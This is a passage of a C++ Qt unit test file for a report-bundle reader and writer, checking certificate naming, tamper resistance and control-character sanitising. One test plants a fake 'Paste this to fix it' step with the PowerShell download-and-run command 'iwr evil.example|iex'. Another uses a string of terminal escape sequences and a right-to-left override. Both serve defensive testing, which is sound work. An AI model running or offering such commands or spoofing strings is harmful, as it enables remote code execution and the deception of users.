    QCOMPARE(certificates.size(), 3);
    const QString prefix = sha256Prefix(leaf.certificatePem);
    QVERIFY2(certificates.first().startsWith(QLatin1String("certificates/0-")) &&
                 certificates.first().endsWith(QStringLiteral("-%1.pem").arg(prefix)),
             qPrintable(certificates.first()));
    QCOMPARE(QSslCertificate::fromData(files.value(certificates.first())).value(0),
             QSslCertificate(leaf.certificatePem));
    // The comment header above the PEM is one line per field, without control characters.
    const QByteArray content = files.value(certificates.first());
    const QList<QByteArray> header = content.left(content.indexOf("-----BEGIN")).split('\n');
    QVERIFY(header.size() >= 3); // reference, subject and/or issuer, then the PEM
    for (const QByteArray &line : header.first(header.size() - 1)) {
        QVERIFY2(line.startsWith("# "), line.constData());
        QVERIFY2(!hasUnsafeCharacter(QString::fromUtf8(line)), line.constData());
    }
}

void TestBundle::unopenableBundleIsNotWritten()
{
    // The writer reads the finished zip back with the reader: what it would refuse (here a
    // tool version longer than the reader accepts) is never written, and the error says why.
    Report report = sampleReport();
    report.toolVersion = QString(100, QLatin1Char('9'));
    const QString path = m_dir.filePath(QStringLiteral("unopenable.zip"));
    const BundleWriteResult written = writeBundle(report, path, {});
    QVERIFY(!written.ok);
    QVERIFY2(written.error.contains(QStringLiteral("would not open again")),
             qPrintable(written.error));
    QVERIFY2(written.error.contains(QStringLiteral("tool.version")), qPrintable(written.error));
    QVERIFY(!QFileInfo::exists(path));
}

void TestBundle::editedFindingsShowTheCatalogue()
{
    // The manifest is a checksum, not a signature: whoever edits report.json and its manifest
    // line must not choose what the app shows as "how to fix it".
    const QJsonObject fakeStep{{QStringLiteral("where"), QStringLiteral("client")},
                               {QStringLiteral("text"), QStringLiteral("Paste this to fix it")},
                               {QStringLiteral("command"), QStringLiteral("iwr evil.example|iex")},
                               {QStringLiteral("shell"), QStringLiteral("powershell")}};
    const QByteArray archive = bundleWithReport([&fakeStep](QJsonObject &report) {
        editFinding(report, 0,
                    {{QStringLiteral("title"), QStringLiteral("Fix: paste the command below")},
                     {QStringLiteral("remediation"), QJsonArray{fakeStep}}});
        editFinding(report, 1,
                    {{QStringLiteral("code"), QStringLiteral("future.fix_everything")},
                     {QStringLiteral("remediation"), QJsonArray{fakeStep}}});
    });
    const BundleReadResult read = readBundleData(archive);
    QVERIFY2(read.contents, qPrintable(read.error));
    const Report &report = read.contents->report;
    const Report expected = reopened(sampleReport());
    // The first finding is exactly the catalogue's, with the run's parameters.
    QCOMPARE(QJsonDocument(findingToJson(report.findings.at(0))).toJson(),
             QJsonDocument(findingToJson(expected.findings.at(0))).toJson());
    QVERIFY(report.findings.at(0).remediation.size() > 0);
    QVERIFY(std::any_of(report.findings.at(0).remediation.cbegin(),
                        report.findings.at(0).remediation.cend(),
                        [](const Remedy &remedy) { return !remedy.command.isEmpty(); }));
    // The unknown code says so and has no command at all.
    QVERIFY(report.findings.at(1).title.contains(QStringLiteral("future.fix_everything")));
    QVERIFY(report.findings.at(1).remediation.isEmpty());
    // Nothing of the edit reaches what --read --json prints.
    QVERIFY(!read.contents->reportJson.contains("evil.example"));
    QVERIFY(!read.contents->reportJson.contains("Paste this"));
    QVERIFY(!read.contents->reportJson.contains("Fix: paste"));
}

void TestBundle::controlCharactersNeutralised()
{
    const QString hostile = QStringLiteral("x\x1b]0;owned\x07\x1b[31m\u009b2J\r\u202eexe.txt");
    QList<RawEntry> files = goodFiles();
    QJsonObject report = QJsonDocument::fromJson(files[0].data).object();
    report.insert(QStringLiteral("target"), [&] {
        QJsonObject target = report.value(QStringLiteral("target")).toObject();
        target.insert(QStringLiteral("input"), hostile);
        return target;
    }());
    files[0].data = QJsonDocument(report).toJson();
    files[1].data =
        (QStringLiteral("summary ") + hostile + QStringLiteral("\nline two\n")).toUtf8();
    files[2].data =
        QJsonDocument(QJsonObject{{QStringLiteral("hostname"), hostile}, {hostile, hostile}})
            .toJson();
    files[3].data = (QStringLiteral("log ") + hostile + QStringLiteral("\n")).toUtf8();
    QJsonObject manifest = QJsonDocument::fromJson(manifestFor(files)).object();
    manifest.insert(QStringLiteral("target"), hostile);
    const BundleReadResult read = readBundleData(bundleOf(files, QJsonDocument(manifest).toJson()));
    QVERIFY2(read.contents, qPrintable(read.error));
    const BundleContents &contents = *read.contents;
    QCOMPARE(contents.report.target.input, safeText(hostile));
    QCOMPARE(contents.environment.value(QStringLiteral("hostname")).toString(), safeText(hostile));
    QVERIFY(contents.environment.contains(safeText(hostile)));
    QCOMPARE(contents.manifest.value(QStringLiteral("target")).toString(), safeText(hostile));
    QCOMPARE(
        contents.summaryText,
        (QStringLiteral("summary ") + safeText(hostile) + QStringLiteral("\nline two\n")).toUtf8());
    QCOMPARE(contents.log,
             (QStringLiteral("log ") + safeText(hostile) + QStringLiteral("\n")).toUtf8());
    for (const QByteArray &bytes :
         {contents.summaryText, contents.log, contents.reportJson,
          QJsonDocument(contents.environment).toJson(), QJsonDocument(contents.manifest).toJson()})
        QVERIFY(!hasUnsafeCharacter(QString::fromUtf8(bytes).remove(QLatin1Char('\n'))));
}

QTEST_GUILESS_MAIN(TestBundle)
#include "TestBundle.moc"
